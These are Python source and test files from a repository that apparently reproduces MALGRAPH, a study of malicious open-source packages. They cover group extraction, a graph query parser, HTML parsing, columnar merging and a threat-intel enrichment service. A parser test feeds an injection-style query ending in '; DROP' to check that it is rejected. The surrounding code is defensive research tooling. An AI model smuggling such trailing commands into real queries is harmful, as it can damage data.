    lines = out.splitlines()
    assert lines[0].count("#") == 10
    assert lines[1].count("#") == 5


def test_render_bars_handles_zero_peak():
    out = render_bars(["a"], [0.0])
    assert "0.00" in out


def test_render_bars_empty():
    assert render_bars([], [], title="empty") == "empty"


def test_render_cdf_empty_points():
    out = render_cdf([], title="F")
    assert "(empty)" in out


def test_render_cdf_marks_points():
    points = [CdfPoint(1.0, 0.5), CdfPoint(2.0, 1.0)]
    out = render_cdf(points, title="F", width=20, height=5)
    assert out.count("*") == 2
    assert "1 .. 2" in out


def test_render_cdf_single_point():
    out = render_cdf([CdfPoint(3.0, 1.0)], width=10, height=4)
    assert out.count("*") == 1


def test_render_box_series_with_none():
    box = BoxStats(count=3, minimum=0, q1=1, median=2, q3=3, maximum=9)
    out = render_box_series(["1", "11"], [box, None])
    lines = out.splitlines()
    assert "median" in lines[0]
    assert "-" in lines[-1]  # the None row renders placeholders


def test_render_timeline_integer_formatting():
    out = render_timeline(["2023-01", "2023-02"], [3, 6], width=12)
    assert "3" in out and "6" in out
    assert "3.0" not in out
