"""PackageGroup extraction and per-group measurements (Section III-B)."""

from __future__ import annotations

import pytest

from repro.core.edges import add_dataset_nodes, build_coexisting_edges
from repro.core.graph import EdgeType, PropertyGraph
from repro.core.groups import GroupKind, PackageGroup, extract_groups, groups_by_ecosystem

from tests.core.helpers import dataset, entry, report


def _coexist_dataset():
    """Two reports, three + two packages, one isolated entry."""
    a = entry("a", release_day=100, downloads=5, campaign_id="c1")
    b = entry("b", code="B = 1\n", release_day=120, downloads=1, campaign_id="c1")
    c = entry("c", code="C = 1\n", release_day=110, downloads=9, campaign_id="c2")
    d = entry("d", code="D = 1\n", ecosystem="npm", release_day=50, campaign_id="c3")
    e = entry("e", code="E = 1\n", ecosystem="npm", release_day=900, campaign_id="c3")
    f = entry("f", code="F = 1\n")
    ds = dataset(
        [a, b, c, d, e, f],
        [
            report("r1", [a.package, b.package, c.package]),
            report("r2", [d.package, e.package]),
        ],
    )
    graph = PropertyGraph()
    add_dataset_nodes(graph, ds)
    build_coexisting_edges(graph, ds)
    return ds, graph


def test_extract_groups_finds_components():
    ds, graph = _coexist_dataset()
    groups = extract_groups(graph, ds, GroupKind.CG)
    assert len(groups) == 2
    assert [g.size for g in groups] == [3, 2]
    assert all(g.kind is GroupKind.CG for g in groups)


def test_isolated_entries_form_no_group():
    ds, graph = _coexist_dataset()
    groups = extract_groups(graph, ds, GroupKind.CG)
    member_names = {e.package.name for g in groups for e in g.members}
    assert "f" not in member_names


def test_groups_empty_for_unused_edge_type():
    ds, graph = _coexist_dataset()
    assert extract_groups(graph, ds, GroupKind.SG) == []


def test_members_sorted_by_release_day():
    ds, graph = _coexist_dataset()
    big = extract_groups(graph, ds, GroupKind.CG)[0]
    days = [m.release_day for m in big.members]
    assert days == sorted(days)


def test_active_period_is_last_minus_first():
    ds, graph = _coexist_dataset()
    groups = extract_groups(graph, ds, GroupKind.CG)
    big, small = groups
    assert big.first_day == 100
    assert big.last_day == 120
    assert big.active_period_days == 20
    assert small.active_period_days == 850


def test_dominant_ecosystem():
    ds, graph = _coexist_dataset()
    groups = extract_groups(graph, ds, GroupKind.CG)
    assert groups[0].ecosystem == "pypi"
    assert groups[1].ecosystem == "npm"


def test_ordered_downloads_follow_release_order():
    ds, graph = _coexist_dataset()
    big = extract_groups(graph, ds, GroupKind.CG)[0]
    assert big.ordered_downloads() == [5, 9, 1]


def test_purity_against_ground_truth():
    ds, graph = _coexist_dataset()
    big = extract_groups(graph, ds, GroupKind.CG)[0]  # c1, c1, c2
    assert big.purity == pytest.approx(2 / 3)
    small = extract_groups(graph, ds, GroupKind.CG)[1]  # c3, c3
    assert small.purity == 1.0
    assert small.campaign_ids() == ["c3"]


def test_purity_zero_without_labels():
    group = PackageGroup(kind=GroupKind.CG, members=[entry("x"), entry("y", code="Y=1\n")])
    assert group.purity == 0.0


def test_group_without_release_days():
    group = PackageGroup(
        kind=GroupKind.DG,
        members=[entry("x", release_day=None), entry("y", release_day=None, code="Y=1\n")],
    )
    assert group.first_day is None
    assert group.last_day is None
    assert group.active_period_days is None
    assert group.ordered_downloads() == []


def test_groups_by_ecosystem_buckets():
    ds, graph = _coexist_dataset()
    groups = extract_groups(graph, ds, GroupKind.CG)
    buckets = groups_by_ecosystem(groups)
    assert set(buckets) == {"pypi", "npm"}
    assert len(buckets["pypi"]) == 1
    assert len(buckets["npm"]) == 1


def test_group_kind_edge_type_mapping():
    assert GroupKind.DG.edge_type is EdgeType.DUPLICATED
    assert GroupKind.DEG.edge_type is EdgeType.DEPENDENCY
    assert GroupKind.SG.edge_type is EdgeType.SIMILAR
    assert GroupKind.CG.edge_type is EdgeType.COEXISTING
