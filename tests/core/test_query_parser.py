"""Golden tests for every grammar production of the query language,
plus error-position (offset + caret) checks on malformed patterns."""

from __future__ import annotations

import pytest

from repro.core.graph import EdgeType
from repro.core.query import (
    BoolExpr,
    CallQuery,
    Comparison,
    EdgePattern,
    MatchQuery,
    NodePattern,
    QueryError,
    QuerySyntaxError,
    ReturnItem,
    parse,
    render,
)


# ---------------------------------------------------------------------------
# Node patterns
# ---------------------------------------------------------------------------

def test_single_node():
    q = parse("MATCH (a) RETURN a")
    assert q == MatchQuery(
        nodes=(NodePattern("a"),),
        edges=(),
        returns=(ReturnItem("a", None),),
    )


def test_node_with_inline_props():
    q = parse("MATCH (a {name: 'left-pad', ecosystem: 'npm'}) RETURN a")
    assert q.nodes[0] == NodePattern(
        "a", props=(("name", "left-pad"), ("ecosystem", "npm"))
    )


def test_node_with_numeric_prop():
    q = parse("MATCH (a {release_day: 7}) RETURN a")
    assert q.nodes[0].props == (("release_day", 7),)


# ---------------------------------------------------------------------------
# Edge patterns: types, direction, hops
# ---------------------------------------------------------------------------

def test_undirected_typed_edge():
    q = parse("MATCH (a)-[similar]-(b) RETURN a, b")
    assert q.edges == (EdgePattern(types=(EdgeType.SIMILAR,)),)


def test_legacy_colon_edge_spelling():
    assert parse("MATCH (a)-[:similar]-(b) RETURN a") == parse(
        "MATCH (a)-[similar]-(b) RETURN a"
    )


def test_untyped_edge_matches_any_type():
    q = parse("MATCH (a)-[]-(b) RETURN a")
    assert q.edges[0].types == ()


def test_outgoing_edge():
    q = parse("MATCH (a)-[dependency]->(b) RETURN a")
    assert q.edges[0].direction == "out"


def test_incoming_edge():
    q = parse("MATCH (a)<-[dependency]-(b) RETURN a")
    assert q.edges[0].direction == "in"


def test_multi_type_edge():
    q = parse("MATCH (a)-[similar|coexisting]-(b) RETURN a")
    assert q.edges[0].types == (EdgeType.SIMILAR, EdgeType.COEXISTING)


def test_chain_of_three_nodes():
    q = parse("MATCH (a)-[similar]-(b)-[dependency]->(c) RETURN a, b, c")
    assert q.variables == ["a", "b", "c"]
    assert len(q.edges) == 2
    assert q.edges[1].direction == "out"


@pytest.mark.parametrize(
    "hops, expected",
    [
        ("*", (1, None)),
        ("*2", (2, 2)),
        ("*1..3", (1, 3)),
        ("*..3", (1, 3)),
        ("*2..", (2, None)),
    ],
)
def test_hop_ranges(hops, expected):
    q = parse(f"MATCH (a)-[similar{hops}]-(b) RETURN b")
    assert (q.edges[0].min_hops, q.edges[0].max_hops) == expected


def test_plain_edge_is_single_hop():
    q = parse("MATCH (a)-[similar]-(b) RETURN a")
    assert not q.edges[0].is_variable
    assert (q.edges[0].min_hops, q.edges[0].max_hops) == (1, 1)


# ---------------------------------------------------------------------------
# WHERE
# ---------------------------------------------------------------------------

def test_where_every_operator():
    q = parse(
        "MATCH (a) WHERE a.x = 1 AND a.x != 2 AND a.x < 3 AND a.x <= 4 "
        "AND a.x > 5 AND a.x >= 6 AND a.name CONTAINS 'pad' RETURN a"
    )
    ops = [c.op for c in q.where.parts]
    assert ops == ["=", "!=", "<", "<=", ">", ">=", "contains"]


def test_where_is_null_and_not_null():
    q = parse("MATCH (a) WHERE a.campaign IS NULL AND a.actor IS NOT NULL RETURN a")
    first, second = q.where.parts
    assert (first.op, first.negated) == ("is-null", False)
    assert (second.op, second.negated) == ("is-null", True)


def test_where_not_prefix():
    q = parse("MATCH (a) WHERE NOT a.ecosystem = 'npm' RETURN a")
    assert q.where.parts[0].negated


def test_where_and_binds_tighter_than_or():
    q = parse("MATCH (a) WHERE a.x = 1 OR a.x = 2 AND a.x = 3 RETURN a")
    assert q.where.op == "or"
    # each OR arm is an AND group; the second one holds both conjuncts
    assert [len(part.parts) for part in q.where.parts] == [1, 2]
    assert all(part.op == "and" for part in q.where.parts)


def test_where_parentheses_override_precedence():
    q = parse("MATCH (a) WHERE (a.x = 1 OR a.x = 2) AND a.x = 3 RETURN a")
    assert q.where.op == "and"
    assert isinstance(q.where.parts[0], BoolExpr)
    assert q.where.parts[0].op == "or"


def test_where_string_escapes():
    q = parse(r"MATCH (a) WHERE a.name = 'it\'s' RETURN a")
    assert q.where.parts[0].literal == "it's"


def test_where_numeric_literals():
    q = parse("MATCH (a) WHERE a.x = -3 AND a.y = 2.5 RETURN a")
    assert q.where.parts[0].literal == -3
    assert q.where.parts[1].literal == 2.5


# ---------------------------------------------------------------------------
# RETURN / ORDER BY / LIMIT
# ---------------------------------------------------------------------------

def test_return_variable_attr_and_count():
    q = parse("MATCH (a) RETURN a, a.name")
    assert q.returns == (ReturnItem("a", None), ReturnItem("a", "name"))
    counted = parse("MATCH (a) RETURN count(*)")
    assert counted.returns[0].is_count


def test_order_by_asc_desc():
    assert not parse("MATCH (a) RETURN a ORDER BY a.name ASC").order_desc
    assert parse("MATCH (a) RETURN a ORDER BY a.name DESC").order_desc


def test_limit():
    assert parse("MATCH (a) RETURN a LIMIT 5").limit == 5


# ---------------------------------------------------------------------------
# CALL
# ---------------------------------------------------------------------------

def test_call_shortest_path():
    q = parse("CALL shortest_path('npm:a@1', 'npm:b@1', 'dependency')")
    assert q == CallQuery(
        procedure="shortest_path", args=("npm:a@1", "npm:b@1", "dependency")
    )


def test_call_neighborhood_with_limit():
    q = parse("CALL neighborhood('npm:a@1', 2) LIMIT 10")
    assert q == CallQuery(procedure="neighborhood", args=("npm:a@1", 2), limit=10)


def test_call_unknown_procedure():
    with pytest.raises(QuerySyntaxError, match="unknown procedure"):
        parse("CALL teleport('a')")


# ---------------------------------------------------------------------------
# Errors: position, caret, semantics
# ---------------------------------------------------------------------------

def test_syntax_error_carries_offset_and_caret():
    text = "MATCH (a) RETURN a WHERE"
    with pytest.raises(QuerySyntaxError) as failure:
        parse(text)
    error = failure.value
    assert error.offset == text.index("WHERE")
    caret_line = str(error).splitlines()[-1]
    assert caret_line.index("^") - 2 == error.offset  # "  " indent


def test_unexpected_character_offset():
    text = "MATCH (a) RETURN a; DROP"
    with pytest.raises(QuerySyntaxError) as failure:
        parse(text)
    assert failure.value.offset == text.index(";")


def test_unexpected_end_of_query_points_past_text():
    text = "MATCH (a) RETURN"
    with pytest.raises(QuerySyntaxError) as failure:
        parse(text)
    assert failure.value.offset == len(text)


def test_bad_edge_type_offset():
    text = "MATCH (a)-[friendship]-(b) RETURN a"
    with pytest.raises(QuerySyntaxError) as failure:
        parse(text)
    assert failure.value.offset == text.index("friendship")


def test_empty_hop_range_is_rejected():
    with pytest.raises(QuerySyntaxError, match="empty"):
        parse("MATCH (a)-[similar*3..2]-(b) RETURN a")


def test_zero_hop_count_is_rejected():
    with pytest.raises(QuerySyntaxError, match=">= 1"):
        parse("MATCH (a)-[similar*0..2]-(b) RETURN a")


def test_both_ways_edge_is_rejected():
    with pytest.raises(QuerySyntaxError, match="both ways"):
        parse("MATCH (a)<-[dependency]->(b) RETURN a")


def test_duplicate_pattern_variable_is_rejected():
    with pytest.raises(QueryError, match="bound twice"):
        parse("MATCH (a)-[similar]-(a) RETURN a")


def test_unbound_variable_is_rejected():
    with pytest.raises(QueryError, match="unbound"):
        parse("MATCH (a) RETURN b")


def test_count_mixed_with_projection_is_rejected():
    with pytest.raises(QueryError, match="COUNT"):
        parse("MATCH (a) RETURN count(*), a")


def test_fractional_limit_is_rejected():
    with pytest.raises(QuerySyntaxError, match="integer"):
        parse("MATCH (a) RETURN a LIMIT 2.5")


def test_keyword_variable_name_is_rejected():
    with pytest.raises(QuerySyntaxError, match="bad variable name"):
        parse("MATCH (match) RETURN match")


# ---------------------------------------------------------------------------
# Render round-trips (spot checks; the property test sweeps the space)
# ---------------------------------------------------------------------------

@pytest.mark.parametrize(
    "text",
    [
        "MATCH (a) RETURN a",
        "MATCH (a {name: 'x'})-[similar*1..3]->(b) RETURN b.name",
        "MATCH (a)<-[dependency|coexisting]-(b) WHERE a.x = 1 OR "
        "(a.y = 2 AND b.z CONTAINS 'q') RETURN a, b ORDER BY a.x DESC LIMIT 3",
        "CALL neighborhood('npm:a@1', 2, 'similar') LIMIT 5",
    ],
)
def test_parse_render_fixpoint(text):
    q = parse(text)
    assert parse(render(q)) == q
