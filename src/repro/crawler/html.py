"""Minimal HTML toolkit: a writer and a tolerant parser.

The paper's pipeline uses BeautifulSoup to parse security-report webpages
(Section II-B). Offline, we provide the two halves ourselves:

* :func:`render_page` — render structured content into an HTML document
  (used by the simulated web to host security reports);
* :class:`MiniSoup` — a small DOM built on the standard library's
  ``html.parser``, with the ``find`` / ``find_all`` / ``get_text`` subset
  of the BeautifulSoup API the extraction code needs.
"""

from __future__ import annotations

import html
import html.parser
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Union

_VOID_TAGS = {"br", "hr", "img", "meta", "link", "input"}


# ---------------------------------------------------------------------------
# DOM
# ---------------------------------------------------------------------------

@dataclass
class Node:
    """One element node in the parsed DOM."""

    tag: str
    attrs: Dict[str, str] = field(default_factory=dict)
    children: List[Union["Node", str]] = field(default_factory=list)
    parent: Optional["Node"] = None

    # -- BeautifulSoup-ish API ------------------------------------------------
    def get_text(self, separator: str = "") -> str:
        """Concatenated text of this subtree."""
        parts: List[str] = []

        def walk(node: "Node") -> None:
            for child in node.children:
                if isinstance(child, str):
                    parts.append(child)
                else:
                    walk(child)

        walk(self)
        return separator.join(parts)

    def find_all(
        self, tag: Optional[str] = None, class_: Optional[str] = None
    ) -> List["Node"]:
        """All descendant elements matching tag and/or CSS class."""
        found: List[Node] = []

        def walk(node: "Node") -> None:
            for child in node.children:
                if isinstance(child, str):
                    continue
                if (tag is None or child.tag == tag) and (
                    class_ is None or class_ in child.css_classes
                ):
                    found.append(child)
                walk(child)

        walk(self)
        return found

    def find(
        self, tag: Optional[str] = None, class_: Optional[str] = None
    ) -> Optional["Node"]:
        """First descendant matching, or None."""
        matches = self.find_all(tag, class_)
        return matches[0] if matches else None

    @property
    def css_classes(self) -> List[str]:
        return self.attrs.get("class", "").split()

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<Node {self.tag} children={len(self.children)}>"


class _TreeBuilder(html.parser.HTMLParser):
    """Builds a :class:`Node` tree, tolerant of unclosed tags."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node(tag="[document]")
        self._stack: List[Node] = [self.root]

    def handle_starttag(self, tag: str, attrs) -> None:
        node = Node(tag=tag, attrs={k: (v or "") for k, v in attrs})
        node.parent = self._stack[-1]
        self._stack[-1].children.append(node)
        if tag not in _VOID_TAGS:
            self._stack.append(node)

    def handle_endtag(self, tag: str) -> None:
        # Pop to the nearest matching open tag; ignore stray closers.
        for idx in range(len(self._stack) - 1, 0, -1):
            if self._stack[idx].tag == tag:
                del self._stack[idx:]
                return

    def handle_data(self, data: str) -> None:
        if data:
            self._stack[-1].children.append(data)


class MiniSoup:
    """Parse an HTML document into a queryable DOM."""

    def __init__(self, markup: str):
        builder = _TreeBuilder()
        builder.feed(markup)
        builder.close()
        self.root = builder.root

    def find_all(
        self, tag: Optional[str] = None, class_: Optional[str] = None
    ) -> List[Node]:
        return self.root.find_all(tag, class_)

    def find(
        self, tag: Optional[str] = None, class_: Optional[str] = None
    ) -> Optional[Node]:
        return self.root.find(tag, class_)

    def get_text(self, separator: str = " ") -> str:
        return self.root.get_text(separator)

    @property
    def title(self) -> str:
        node = self.find("title")
        return node.get_text().strip() if node else ""


# ---------------------------------------------------------------------------
# Writer
# ---------------------------------------------------------------------------

def tag(
    element: str,
    content: Union[str, Sequence[str]] = "",
    **attrs: str,
) -> str:
    """Render one element; ``class_`` maps to the ``class`` attribute."""
    rendered_attrs = "".join(
        f' {key.rstrip("_")}="{html.escape(str(value), quote=True)}"'
        for key, value in attrs.items()
    )
    if isinstance(content, (list, tuple)):
        body = "".join(content)
    else:
        body = content
    if element in _VOID_TAGS:
        return f"<{element}{rendered_attrs}/>"
    return f"<{element}{rendered_attrs}>{body}</{element}>"


def text(content: str) -> str:
    """Escape raw text for inclusion in a document."""
    return html.escape(content)


def render_page(
    title: str,
    body_parts: Iterable[str],
    keywords: Sequence[str] = (),
) -> str:
    """Render a complete HTML document."""
    head = tag("title", text(title))
    if keywords:
        head += tag("meta", name="keywords", content=",".join(keywords))
    return (
        "<!DOCTYPE html>"
        + tag(
            "html",
            tag("head", head) + tag("body", "".join(body_parts)),
        )
    )
