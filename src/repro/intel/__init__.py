"""Threat-intelligence substrate: sources, attribution, reports, web, SNS."""

from repro.intel.reports import (
    CATEGORIES,
    ReportCorpus,
    ReportFactory,
    SecurityReport,
    Website,
    build_websites,
)
from repro.intel.sns import Tweet, build_feed
from repro.intel.sources import (
    CO_REPORT_AFFINITY,
    SOURCE_INDEX,
    SOURCE_PROFILES,
    AttributionEngine,
    AttributionOutcome,
    DetectionCase,
    Sector,
    SourceEntry,
    SourceKind,
    SourceProfile,
    co_report_rate,
)
from repro.intel.web import (
    SimulatedWeb,
    WebPage,
    build_web,
    render_noise_page,
    render_report_page,
)

__all__ = [
    "AttributionEngine",
    "AttributionOutcome",
    "CATEGORIES",
    "CO_REPORT_AFFINITY",
    "DetectionCase",
    "ReportCorpus",
    "ReportFactory",
    "SOURCE_INDEX",
    "SOURCE_PROFILES",
    "Sector",
    "SecurityReport",
    "SimulatedWeb",
    "SourceEntry",
    "SourceKind",
    "SourceProfile",
    "Tweet",
    "WebPage",
    "Website",
    "build_feed",
    "build_web",
    "build_websites",
    "co_report_rate",
    "render_noise_page",
    "render_report_page",
]
