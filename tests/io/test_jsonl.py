"""JSONL read/write helpers."""

from __future__ import annotations

import pytest

from repro.io.jsonl import read_jsonl, write_jsonl


def test_roundtrip(tmp_path):
    path = tmp_path / "data.jsonl"
    records = [{"a": 1}, {"b": [1, 2]}, {"c": {"nested": True}}]
    assert write_jsonl(path, records) == 3
    assert list(read_jsonl(path)) == records


def test_write_empty(tmp_path):
    path = tmp_path / "empty.jsonl"
    assert write_jsonl(path, []) == 0
    assert list(read_jsonl(path)) == []


def test_read_skips_blank_lines(tmp_path):
    path = tmp_path / "gaps.jsonl"
    path.write_text('{"a": 1}\n\n   \n{"b": 2}\n')
    assert list(read_jsonl(path)) == [{"a": 1}, {"b": 2}]


def test_write_overwrites(tmp_path):
    path = tmp_path / "x.jsonl"
    write_jsonl(path, [{"v": 1}])
    write_jsonl(path, [{"v": 2}])
    assert list(read_jsonl(path)) == [{"v": 2}]


def test_keys_sorted_for_stable_diffs(tmp_path):
    path = tmp_path / "sorted.jsonl"
    write_jsonl(path, [{"zebra": 1, "alpha": 2}])
    assert path.read_text().startswith('{"alpha"')
