"""Vectorised merge of columnar corpora.

Implements exactly the semantics of
:func:`repro.collection.merge.merge_datasets` — copy-on-write untouched
rows, clone + claim-normalise + fold overlapping rows, reports deduped
by id, output sorted by (ecosystem, name, version) — but over arrays:

1. unify pools — ``new``'s pool ids are remapped into ``base``'s pool
   (append-only, so every id already handed out stays valid);
2. classify rows with one sort + two binary searches: untouched base
   rows, new-only rows, overlapping (base row, new row) pairs;
3. untouched and new-only rows move by `take` (array gather — no
   dataclass is ever built for them);
4. only the overlap hydrates: each pair runs the reference
   ``_clone_entry`` / ``_merge_into`` fold and is re-encoded, so conflict
   detection and claim-merge rules stay the single dataclass
   implementation;
5. the three parts concatenate virtually and one argsort over
   rank-packed keys produces the sorted output.

Hydrating the result is byte-identical to running the dataclass merge
over the hydrated inputs (property-tested in
``tests/core/test_columnar_merge.py``).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.collection.merge import _clone_entry, _merge_into
from repro.core.columnar.edges import void_keys
from repro.core.columnar.pool import NULL, StringPool
from repro.core.columnar.tables import (
    ColumnarBuilder,
    ColumnarDataset,
    _first_occurrence_mask,
    _offsets,
    csr_take,
)

#: pool-id fields of PACKAGE_DTYPE (everything else is plain data)
_PKG_ID_FIELDS = (
    "eco",
    "name",
    "version",
    "origin",
    "campaign",
    "actor",
    "archetype",
    "behavior",
    "sha",
    "meta_description",
    "meta_author",
    "meta_homepage",
)
_REPORT_ID_FIELDS = ("report_id", "url", "site", "category", "source", "actor_alias")

#: CSR groups of the package table: offsets field -> (id values, data values)
_PKG_CSR = (
    ("claim_offsets", ("claim_source",), ("claim_day", "claim_shares")),
    ("file_offsets", ("file_path", "file_text"), ()),
    ("keyword_offsets", ("keyword",), ()),
    ("dep_offsets", ("dep",), ()),
    ("script_offsets", ("script_key", "script_val"), ()),
)
_REPORT_CSR = (
    ("rpkg_offsets", ("rpkg_eco", "rpkg_name", "rpkg_ver"), ()),
    ("unresolved_offsets", ("unresolved_a", "unresolved_b"), ()),
)


def _id_map(src: StringPool, dst: StringPool) -> np.ndarray:
    """id in ``src`` -> id of the same string in ``dst`` (interning as
    needed; ``dst`` grows append-only)."""
    return np.fromiter(
        (dst.intern_into(src.lookup(i)) for i in range(len(src))),
        dtype=np.int64,
        count=len(src),
    )


def _remap_ids(arr: np.ndarray, id_map: np.ndarray) -> np.ndarray:
    arr = np.asarray(arr, dtype=np.int64)
    if len(arr) == 0:
        return arr
    return np.where(arr < 0, np.int64(NULL), id_map[np.maximum(arr, 0)])


def _remap_dataset(new: ColumnarDataset, base_pool: StringPool) -> ColumnarDataset:
    """``new`` re-expressed in ``base_pool``'s id space (shares what it
    can; only id columns are rewritten)."""
    if new.pool is base_pool:
        return new
    id_map = _id_map(new.pool, base_pool)
    packages = new.packages.copy()
    for name in _PKG_ID_FIELDS:
        packages[name] = _remap_ids(packages[name], id_map)
    reports = new.reports.copy()
    for name in _REPORT_ID_FIELDS:
        reports[name] = _remap_ids(reports[name], id_map)
    replaced: Dict[str, np.ndarray] = {"packages": packages, "reports": reports}
    for group in (_PKG_CSR, _REPORT_CSR):
        for _, id_fields, _data in group:
            for name in id_fields:
                replaced[name] = _remap_ids(getattr(new, name), id_map)
    kwargs = {
        name: replaced.get(name, getattr(new, name))
        for name in ColumnarDataset._ARRAY_FIELDS
    }
    return ColumnarDataset(pool=base_pool, **kwargs)


def _concat(parts: Sequence[np.ndarray]) -> np.ndarray:
    return np.concatenate([np.asarray(p) for p in parts])


def _concat_csr(
    offset_parts: Sequence[np.ndarray], value_parts: Sequence[Sequence[np.ndarray]]
) -> Tuple[np.ndarray, List[np.ndarray]]:
    """Concatenate CSR groups: shift offsets, join value arrays."""
    counts = _concat(
        [off[1:] - off[:-1] for off in offset_parts]
    ) if offset_parts else np.zeros(0, dtype=np.int64)
    offsets = _offsets(counts)
    values = [
        _concat([vp[i] for vp in value_parts]) for i in range(len(value_parts[0]))
    ]
    return offsets, values


def merge_columnar(base: ColumnarDataset, new: ColumnarDataset) -> ColumnarDataset:
    """Merge two columnar corpora; ``base``'s pool grows (append-only),
    nothing else about the inputs is mutated. Returns ``base`` itself
    when ``new`` is empty."""
    if new.n_packages == 0 and new.n_reports == 0:
        return base
    new = _remap_dataset(new, base.pool)
    pool = base.pool

    # -- classify package rows --------------------------------------------
    pkgs_b, pkgs_n = base.packages, new.packages
    bk = void_keys(pkgs_b["eco"], pkgs_b["name"], pkgs_b["version"])
    nk = void_keys(pkgs_n["eco"], pkgs_n["name"], pkgs_n["version"])
    order_b = np.argsort(bk, kind="stable")
    sorted_b = bk[order_b]
    pos = np.searchsorted(sorted_b, nk, side="left")
    pos_c = np.minimum(pos, max(len(sorted_b) - 1, 0))
    overlap_mask_n = (
        (pos < len(sorted_b)) & (sorted_b[pos_c] == nk)
        if len(sorted_b)
        else np.zeros(len(nk), dtype=bool)
    )
    overlap_rows_n = np.nonzero(overlap_mask_n)[0]
    overlap_rows_b = order_b[pos_c[overlap_rows_n]]
    new_only_rows = np.nonzero(~overlap_mask_n)[0]
    untouched_mask_b = np.ones(base.n_packages, dtype=bool)
    untouched_mask_b[overlap_rows_b] = False
    untouched_rows = np.nonzero(untouched_mask_b)[0]

    # -- fold the overlap through the reference dataclass merge -----------
    overlap_builder = ColumnarBuilder(pool=pool)
    for b_row, n_row in zip(overlap_rows_b, overlap_rows_n):
        clone = _clone_entry(base.entry_at(int(b_row)))
        _merge_into(clone, new.entry_at(int(n_row)))
        overlap_builder.add_entry(clone)
    overlap = overlap_builder.build()

    parts = [base.take(untouched_rows), new.take(new_only_rows), overlap]

    # -- concatenate package side -----------------------------------------
    packages = _concat([p.packages for p in parts])
    merged_arrays: Dict[str, np.ndarray] = {"packages": packages}
    for off_name, id_fields, data_fields in _PKG_CSR:
        offsets, values = _concat_csr(
            [getattr(p, off_name) for p in parts],
            [
                [getattr(p, name) for name in id_fields + data_fields]
                for p in parts
            ],
        )
        merged_arrays[off_name] = offsets
        for name, value in zip(id_fields + data_fields, values):
            merged_arrays[name] = value
    # the gathered parts are fully copied into merged_arrays; release
    # them before the final sorted gather so peak residency holds two
    # corpus-sized copies, not three
    del parts, overlap

    # -- reports: base wins by id (last base occurrence, as the dict
    # comprehension in merge_datasets keeps), then first-seen new ids ----
    rid_b = base.reports["report_id"]
    rid_n = new.reports["report_id"]
    keep_b = (
        _first_occurrence_mask(rid_b[::-1])[::-1]
        if len(rid_b)
        else np.zeros(0, dtype=bool)
    )
    if len(rid_n):
        keep_n = _first_occurrence_mask(rid_n)
        keep_n &= ~np.isin(rid_n, rid_b[keep_b] if len(rid_b) else rid_b)
    else:
        keep_n = np.zeros(0, dtype=bool)
    rep_rows_b = np.nonzero(keep_b)[0]
    rep_rows_n = np.nonzero(keep_n)[0]
    report_parts = []
    for src, rows in ((base, rep_rows_b), (new, rep_rows_n)):
        part: Dict[str, np.ndarray] = {"reports": src.reports[rows]}
        for off_name, id_fields, data_fields in _REPORT_CSR:
            gathered = csr_take(
                getattr(src, off_name),
                rows,
                *[getattr(src, name) for name in id_fields + data_fields],
            )
            part[off_name] = gathered[0]
            for name, value in zip(id_fields + data_fields, gathered[1:]):
                part[name] = value
        report_parts.append(part)
    merged_arrays["reports"] = _concat([p["reports"] for p in report_parts])
    for off_name, id_fields, data_fields in _REPORT_CSR:
        offsets, values = _concat_csr(
            [p[off_name] for p in report_parts],
            [
                [p[name] for name in id_fields + data_fields]
                for p in report_parts
            ],
        )
        merged_arrays[off_name] = offsets
        for name, value in zip(id_fields + data_fields, values):
            merged_arrays[name] = value

    merged = ColumnarDataset(
        pool=pool,
        **{name: merged_arrays[name] for name in ColumnarDataset._ARRAY_FIELDS},
    )
    del merged_arrays, packages, report_parts

    # -- sort: packages by (eco, name, version), reports by id ------------
    pkg_order = np.argsort(merged.ranked_keys(), kind="stable")
    merged = merged.take(pkg_order)
    rid = merged.reports["report_id"]
    if len(rid):
        ranks = pool.subset_ranks(rid)
        rep_order = np.argsort(ranks[rid], kind="stable")
        reports = merged.reports[rep_order]
        rep_arrays: Dict[str, np.ndarray] = {"reports": reports}
        for off_name, id_fields, data_fields in _REPORT_CSR:
            gathered = csr_take(
                getattr(merged, off_name),
                rep_order,
                *[getattr(merged, name) for name in id_fields + data_fields],
            )
            rep_arrays[off_name] = gathered[0]
            for name, value in zip(id_fields + data_fields, gathered[1:]):
                rep_arrays[name] = value
        for name, value in rep_arrays.items():
            setattr(merged, name, value)
    return merged
