"""Online threat-intel enrichment service over MALGRAPH.

The paper builds MALGRAPH once and mines it offline; this package turns
a built graph into a serving layer — the workload a Unit-42-style
intelligence integration expects: hand in an indicator (package name,
name@version, SHA256) and get back a verdict plus malware-family /
campaign / actor associations and related indicators.

Layers, bottom to top:

* :mod:`repro.service.index` — :class:`IntelIndex`, O(1) inverted
  indexes over graph + dataset + groups, built in one pass;
* :mod:`repro.service.enrich` — :class:`EnrichmentEngine`, indicator →
  structured :class:`EnrichmentResult` with typosquat-distance fallback;
* :mod:`repro.service.cache` — thread-safe bounded LRU with hit/miss
  counters and a deduplicating ``batch_enrich`` path;
* :mod:`repro.service.metrics` — per-endpoint request counters and
  fixed-bucket latency histograms (p50/p95/p99);
* :mod:`repro.service.server` — stdlib JSON HTTP API with a request
  error boundary (``/v1/enrich``, ``/v1/enrich/batch``, ``/v1/query``,
  ``/v1/stats``, ``/v1/metrics``, ``/v1/healthz``);
* :mod:`repro.service.refresh` — incremental index refresh from a
  :mod:`repro.collection.merge` diff, no full rebuild, applied under
  the service's request lock.
"""

from repro.service.cache import EnrichmentService, LRUCache, build_service
from repro.service.enrich import (
    VERDICT_MALICIOUS,
    VERDICT_SUSPICIOUS,
    VERDICT_UNKNOWN,
    EnrichmentEngine,
    EnrichmentResult,
    Indicator,
)
from repro.service.index import IntelIndex, source_reliability
from repro.service.metrics import LatencyHistogram, ServiceMetrics
from repro.service.refresh import RefreshStats, refresh_index
from repro.service.server import MAX_QUERY_LENGTH, create_server, serve

__all__ = [
    "EnrichmentEngine",
    "EnrichmentResult",
    "EnrichmentService",
    "Indicator",
    "IntelIndex",
    "LRUCache",
    "LatencyHistogram",
    "MAX_QUERY_LENGTH",
    "RefreshStats",
    "ServiceMetrics",
    "VERDICT_MALICIOUS",
    "VERDICT_SUSPICIOUS",
    "VERDICT_UNKNOWN",
    "build_service",
    "create_server",
    "refresh_index",
    "serve",
    "source_reliability",
]
